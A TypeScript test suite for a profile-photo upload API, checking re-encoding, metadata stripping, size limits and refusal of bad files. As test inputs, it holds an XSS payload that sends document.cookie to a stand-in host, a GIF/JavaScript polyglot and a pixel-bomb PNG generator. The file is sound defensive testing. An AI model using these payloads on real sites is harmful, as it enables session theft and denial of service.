import { crc32, deflateSync } from "node:zlib";
import { PHOTO_MAX_BYTES, PHOTO_SIDE } from "@filon/contracts/profile-photo";
import { testDatabase } from "@filon/testing";
import sharp from "sharp";
import { describe, expect, it } from "vitest";
import { testServer } from "../../testing/test-server.ts";

const database = await testDatabase();
const { app, signedIn } = await testServer(database);
type User = Awaited<ReturnType<typeof signedIn>>;

const SCRIPT = "<script>fetch('https://exemple.test/'+document.cookie)</script>";

const plain = (width: number, height: number, background = "#1F36D0") => sharp({ create: { width, height, channels: 3, background } });

async function sent(user: User, file: Buffer | string, { type = "application/octet-stream", language = "en" } = {}) {
  const response = await app.inject({
    method: "PUT",
    url: "/api/account/photo",
    headers: { ...user.headers, "content-type": type, "accept-language": language },
    payload: file,
  });
  return { status: response.statusCode, body: response.json() };
}
const avatarOf = async (user: User): Promise<string | null> =>
  (await app.inject({ url: "/api/auth/user", headers: user.headers })).json().user.avatar;
const read = (address: string) => app.inject({ url: address });

/** A PNG whose header claims these dimensions; its data are one grey line, which fits only the smallest. */
function claimedPng(width: number, height: number): Buffer {
  const chunk = (name: string, data: Buffer) => {
    const named = Buffer.concat([Buffer.from(name), data]);
    const framed = Buffer.alloc(named.length + 8);
    framed.writeUInt32BE(data.length, 0);
    named.copy(framed, 4);
    framed.writeUInt32BE(crc32(named), named.length + 4);
    return framed;
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 0, 0, 0, 0], 8);
  const data = deflateSync(Buffer.alloc(width + 1));
  return Buffer.concat([
    Buffer.from("\x89PNG\r\n\x1a\n", "latin1"),
    chunk("IHDR", head),
    chunk("IDAT", data),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

describe("a profile photo", () => {
  it.each(["jpeg", "png", "gif", "webp"] as const)("[SETTINGS-05] in %s is kept as a square WebP of 256 pixels", async (format) => {
    const user = await signedIn();
    const { status, body } = await sent(user, await plain(800, 300)[format]().toBuffer(), { type: `image/${format}` });
    expect({ status, body }).toEqual({
      status: 200,
      body: { success: true, data: { avatar: expect.stringMatching(/^\/api\/photos\/[\w-]{32}$/u) } },
    });
    expect(await avatarOf(user)).toBe(body.data.avatar);
    const answer = await read(body.data.avatar);
    expect(answer.headers).toMatchObject({
      "content-type": "image/webp",
      "cache-control": "private, max-age=31536000, immutable",
      "x-content-type-options": "nosniff",
      "content-security-policy": expect.stringContaining("default-src 'none'"),
    });
    expect(await sharp(answer.rawPayload).metadata()).toMatchObject({ format: "webp", width: PHOTO_SIDE, height: PHOTO_SIDE });
  });

  it("is turned upright and keeps nothing of the file but the picture", async () => {
    const user = await signedIn();
    const left = await plain(60, 40, "#ff0000").toBuffer({ resolveWithObject: true });
    // Red on the left, blue on the right, and a tag saying that the camera was held sideways: upright, red is on top.
    const sideways = await plain(120, 40, "#0000ff")
      .composite([{ input: left.data, raw: { width: 60, height: 40, channels: 3 }, left: 0, top: 0 }])
      .withMetadata({ orientation: 6 })
      .withExif({ IFD0: { ImageDescription: SCRIPT }, IFD3: { GPSLatitude: "48/1 51/1 24/1" } })
      .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${SCRIPT}</x:xmpmeta>`)
      .jpeg()
      .toBuffer();
    expect([sideways.includes("<script>"), (await sharp(sideways).metadata()).orientation]).toEqual([true, 6]);
    const { body } = await sent(user, Buffer.concat([sideways, Buffer.from(SCRIPT)]));
    const { rawPayload } = await read(body.data.avatar);
    expect(rawPayload.includes("<script>")).toBe(false);
    const kept = await sharp(rawPayload).metadata();
    expect([kept.exif, kept.xmp, kept.icc, kept.orientation]).toEqual([undefined, undefined, undefined, undefined]);
    const { data } = await sharp(rawPayload).removeAlpha().raw().toBuffer({ resolveWithObject: true });
    const at = (x: number, y: number) => [...data.subarray((y * PHOTO_SIDE + x) * 3, (y * PHOTO_SIDE + x) * 3 + 3)];
    // These corners distinguish it from a picture lying on its side.
    const [above, below] = [at(PHOTO_SIDE - 1, 0), at(0, PHOTO_SIDE - 1)];
    expect({ above, below }).toEqual({
      above: [expect.closeTo(255, -1.5), expect.closeTo(0, -1.5), expect.closeTo(0, -1.5)],
      below: [expect.closeTo(0, -1.5), expect.closeTo(0, -1.5), expect.closeTo(255, -1.5)],
    });
  });

  it("is gone from its address once replaced or deleted", async () => {
    const user = await signedIn();
    const first = (await sent(user, await plain(40, 40).png().toBuffer())).body.data.avatar;
    const second = (await sent(user, await plain(40, 40, "#08734F").png().toBuffer())).body.data.avatar;
    expect(second).not.toBe(first);
    expect((await read(first)).statusCode).toBe(404);
    const other = await signedIn();
    for (const _ of [1, 2]) {
      const deleted = await app.inject({ method: "DELETE", url: "/api/account/photo", headers: user.headers });
      expect([deleted.statusCode, deleted.json()]).toEqual([200, { success: true }]);
    }
    expect([await avatarOf(user), (await read(second)).statusCode]).toEqual([null, 404]);
    // Other users could not delete it.
    const kept = (await sent(other, await plain(40, 40).png().toBuffer())).body.data.avatar;
    await app.inject({ method: "DELETE", url: "/api/account/photo", headers: user.headers });
    expect((await read(kept)).statusCode).toBe(200);
  });
});

describe("a file that is not a photo", () => {
  const unsupported = { status: 415, code: "settings.photo.unsupported" };
  const unreadable = { status: 422, code: "settings.photo.unreadable" };
  const tooManyPixels = { status: 422, code: "settings.photo.tooManyPixels" };
  const CASES: readonly [string, () => Promise<Buffer> | Buffer | string, string, { status: number; code: string }][] = [
    ["an SVG with a script", () => `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`, "image/svg+xml", unsupported],
    ["an SVG called a PNG", () => `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>`, "image/png", unsupported],
    ["a page called a JPEG", () => `<!doctype html>${SCRIPT}`, "image/jpeg", unsupported],
    ["a TIFF", () => plain(9, 9).tiff().toBuffer(), "image/tiff", unsupported],
    ["an AVIF", () => plain(9, 9).avif().toBuffer(), "image/avif", unsupported],
    ["nothing", () => "", "image/png", unsupported],
    ["a script that begins as a GIF", () => `GIF89a/*${"x".repeat(80)}*/=1;alert(1)`, "image/gif", unreadable],
    ["a JPEG cut in two", async () => (await plain(900, 900).jpeg().toBuffer()).subarray(0, 1200), "image/jpeg", unreadable],
    [
      "noise behind a PNG's first bytes",
      () => Buffer.concat([Buffer.from("\x89PNG\r\n\x1a\n", "latin1"), Buffer.alloc(500, 7)]),
      "image/png",
      unreadable,
    ],
    ["a picture 20,000 pixels wide", () => plain(20_000, 10).png().toBuffer(), "image/png", tooManyPixels],
    ["a few bytes that claim 60,000 x 60,000 pixels", () => claimedPng(60_000, 60_000), "image/png", tooManyPixels],
  ];

  it.each(CASES)(
    "[SETTINGS-05] %s is refused with a clear error, and the previous photo stays",
    async (_, file, type, { status, code }) => {
      const user = await signedIn();
      const before = (await sent(user, await plain(40, 40).png().toBuffer())).body.data.avatar;
      const answer = await sent(user, await file(), { type });
      expect(answer).toMatchObject({ status, body: { success: false, code } });
      if (code === unsupported.code) expect(answer.body.message).toBe("Unsupported format");
      expect(await avatarOf(user)).toBe(before);
      expect((await read(before)).statusCode).toBe(200);
    },
  );

  it("[SETTINGS-06] over 5 MB is refused with this message, in either language; exactly 5 MB is accepted", async () => {
    const user = await signedIn();
    const picture = await plain(40, 40).png().toBuffer();
    const full = Buffer.concat([picture, Buffer.alloc(PHOTO_MAX_BYTES - picture.length)]);
    expect((await sent(user, full)).status).toBe(200);
    const before = await avatarOf(user);
    const over = Buffer.concat([full, Buffer.alloc(1)]);
    const refused = { success: false, code: "settings.photo.tooLarge" };
    expect(await sent(user, over)).toEqual({ status: 413, body: { ...refused, message: "Image too large (max 5MB)" } });
    expect((await sent(user, over, { language: "fr" })).body.message).toBe("Image trop volumineuse (5 Mo maximum)");
    expect(await avatarOf(user)).toBe(before);
  });

  it("needs no sign-in to be read, and a guessed or truncated address finds none", async () => {
    const anonymous = await app.inject({
      method: "PUT",
      url: "/api/account/photo",
      headers: { "content-type": "image/png" },
      payload: "x",
    });
    expect(anonymous.statusCode).toBe(401);
    expect((await read(`/api/photos/${"A".repeat(32)}`)).statusCode).toBe(404);
    expect((await read("/api/photos/short")).statusCode).toBe(400);
    expect((await app.inject({ url: "/api/openapi.json" })).json().paths).toHaveProperty(["/api/photos/{key}"]);
  });
});

it("large pictures of one workspace are refused beyond two, and another workspace's small one waits for only one of them", async () => {
  const [greedy, other] = [await signedIn({ plan: "professional" }), await signedIn({ plan: "professional" })];
  const large = await sharp({ create: { width: 5990, height: 5990, channels: 3, background: "#1F36D0" } })
    .webp({ quality: 1, effort: 0 })
    .toBuffer();
  const small = await sharp({ create: { width: 64, height: 64, channels: 3, background: "#123456" } })
    .png()
    .toBuffer();
  const put = (user: User, payload: Buffer) =>
    app.inject({ method: "PUT", url: "/api/account/photo", headers: { ...user.headers, "content-type": "image/webp" }, payload });
  // The first upload of a process also loads what the others only use.
  for (const user of [greedy, other]) expect((await put(user, small)).statusCode).toBe(200);
  const order: string[] = [];
  // Few enough to have all arrived before the first picture is finished, even on a busy machine.
  const flood = Array.from({ length: 4 }, async () => {
    const answer = await put(greedy, large);
    if (answer.statusCode === 200) order.push("large");
    return answer.statusCode;
  });
  const theirs = put(other, small).then((answer) => {
    order.push("small");
    return answer.statusCode;
  });
  const statuses = await Promise.all(flood);
  expect([200, 429].map((status) => statuses.filter((each) => each === status).length)).toEqual([2, 2]);
  expect(await theirs).toBe(200);
  expect(order.indexOf("small")).toBeLessThan(2);
});
